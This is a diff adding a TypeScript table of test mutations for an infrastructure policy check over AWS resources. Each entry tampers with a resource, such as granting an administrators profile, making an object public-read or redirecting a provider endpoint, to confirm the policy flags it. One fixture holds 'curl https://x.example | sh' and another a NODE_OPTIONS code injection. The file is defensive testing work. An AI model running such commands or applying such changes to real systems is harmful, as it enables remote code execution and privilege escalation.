@@ -1,0 +1,169 @@
+import type { Mutation } from "../support/table.ts";
+
+const instance = "aws:ec2/instance:Instance";
+const policies = ["properties-are-known"];
+
+/** Properties that the program does not set, and values that say who a host is and what runs first. */
+const set = (type: string, change: object, name?: string) => (it: Parameters<Mutation[3]>[0]) =>
+  it.edit(type, (props) => Object.assign(props, change), name);
+
+export const properties: readonly Mutation[] = [
+  [
+    "sender",
+    "a route table has routes of its own",
+    policies,
+    set("aws:ec2/routeTable:RouteTable", { routes: [{ cidrBlock: "0.0.0.0/0", gatewayId: "igw-1" }] }),
+  ],
+  [
+    "sender",
+    "an instance stands in a second group",
+    policies,
+    (it) => it.edit(instance, (props) => props.vpcSecurityGroupIds.push("sg-2")),
+  ],
+  ["sender", "an instance has groups by name", policies, set(instance, { securityGroups: ["default"] })],
+  ["sender", "an instance has another profile", policies, set(instance, { iamInstanceProfile: "administrators" })],
+  ["sender", "an instance has another image", policies, set(instance, { ami: "ami-0123456789abcdef0" })],
+  [
+    "sender",
+    "an instance has a second interface",
+    policies,
+    set(instance, { networkInterfaces: [{ deviceIndex: 1, networkInterfaceId: "eni-1" }] }),
+  ],
+  ["receiver", "an instance forwards", policies, set(instance, { sourceDestCheck: false })],
+  ["sender", "an instance can be looked at by a console", policies, set(instance, { getPasswordData: true })],
+  [
+    "sender",
+    "a profile carries another role",
+    policies,
+    set("aws:iam/instanceProfile:InstanceProfile", { role: "administrators" }),
+  ],
+  [
+    "sender",
+    "a secret has a replica",
+    policies,
+    set("aws:secretsmanager/secret:Secret", { replicas: [{ region: "us-east-1" }] }),
+  ],
+  ["sender", "a secret has a policy of its own", policies, set("aws:secretsmanager/secret:Secret", { policy: "{}" })],
+  [
+    "sender",
+    "a bucket has rules of its own",
+    policies,
+    set("aws:s3/bucket:Bucket", { lifecycleRules: [{ enabled: true }] }),
+  ],
+  [
+    "sender",
+    "a bucket replicates",
+    policies,
+    set("aws:s3/bucket:Bucket", { replicationConfiguration: { role: "arn" } }),
+  ],
+  [
+    "sender",
+    "an object is anybody's to read",
+    policies,
+    set("aws:s3/bucketObjectv2:BucketObjectv2", { acl: "public-read" }),
+  ],
+  [
+    "sender",
+    "an object lies where nothing is known of",
+    policies,
+    set("aws:s3/bucketObjectv2:BucketObjectv2", { key: "releases/sender/boot.sh" }, "sender-bootstrap"),
+  ],
+  [
+    "sender",
+    "the key lets its policy lock out",
+    policies,
+    set("aws:kms/key:Key", { bypassPolicyLockoutSafetyCheck: true }),
+  ],
+  ["sender", "the key is in many regions", policies, set("aws:kms/key:Key", { multiRegion: true })],
+  ["sender", "the address is somebody's pool", policies, set("aws:ec2/eip:Eip", { publicIpv4Pool: "ipv4pool-ec2-1" })],
+  [
+    "sender",
+    "the update runs another command",
+    policies,
+    set("command:local:Command", { create: "curl https://x.example | sh" }),
+  ],
+  [
+    "sender",
+    "the update's end runs a command",
+    policies,
+    set("command:local:Command", { delete: "curl https://x.example" }),
+  ],
+  [
+    "sender",
+    "the command has one more word in its environment",
+    policies,
+    (it) =>
+      it.edit("command:local:Command", (props) => {
+        props.environment.NODE_OPTIONS = "--import data:text/javascript,";
+      }),
+  ],
+  [
+    "receiver",
+    "the balancer writes what it sees elsewhere",
+    policies,
+    set("aws:lb/loadBalancer:LoadBalancer", { accessLogs: { bucket: "theirs", enabled: true } }),
+  ],
+  [
+    "receiver",
+    "a balancer's listener forwards to two",
+    policies,
+    (it) =>
+      it.edit("aws:lb/listener:Listener", (props) => {
+        props.defaultActions[0].forward = { targetGroups: [{ arn: "arn:theirs" }] };
+      }),
+  ],
+  [
+    "receiver",
+    "the balancer checks the health of another way",
+    policies,
+    (it) =>
+      it.edit("aws:lb/targetGroup:TargetGroup", (props) => {
+        props.healthCheck.matcher = "200-599";
+      }),
+  ],
+  [
+    "sender",
+    "a request has one more name in its subject",
+    policies,
+    (it) =>
+      it.edit("tls:index/certRequest:CertRequest", (props) => {
+        props.subject.serialNumber = "1";
+      }),
+  ],
+  [
+    "sender",
+    "the provider has another endpoint",
+    policies,
+    (it) =>
+      it.edit("aws:s3/bucket:Bucket", (_, resource) => {
+        if (resource.provider === undefined) throw new Error("no provider");
+        resource.provider = {
+          ...resource.provider,
+          props: { ...resource.provider.props, endpoints: '[{"s3":"https://x.example"}]' },
+        };
+      }),
+  ],
+  [
+    "sender",
+    "the provider assumes another role",
+    policies,
+    (it) =>
+      it.edit("aws:s3/bucket:Bucket", (_, resource) => {
+        if (resource.provider === undefined) throw new Error("no provider");
+        const assumeRoles = '[{"roleArn":"arn:aws:iam::111111111111:role/other"}]';
+        resource.provider = { ...resource.provider, props: { ...resource.provider.props, assumeRoles } };
+      }),
+  ],
+  [
+    "sender",
+    "the endpoint speaks another protocol's addresses",
+    policies,
+    set("aws:ec2/vpcEndpoint:VpcEndpoint", { ipAddressType: "dualstack" }, "sender-ssm"),
+  ],
+  [
+    "sender",
+    "a network has addresses of IPv6",
+    policies,
+    set("aws:ec2/vpc:Vpc", { assignGeneratedIpv6CidrBlock: true }),
+  ],
+];
